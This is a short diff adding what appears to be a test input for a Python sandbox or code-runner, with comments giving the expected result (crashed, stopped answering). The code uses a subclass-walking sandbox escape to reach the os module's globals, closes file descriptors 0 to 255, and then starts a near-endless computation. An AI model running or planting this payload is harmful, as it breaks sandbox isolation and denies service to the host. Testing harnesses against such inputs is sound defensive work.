@@ -1,0 +1,5 @@
+# ends: crashed
+# says: stopped answering
+g = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close').__init__.__globals__
+g['closerange'](0, 256)
+sum(range(10 ** 12))
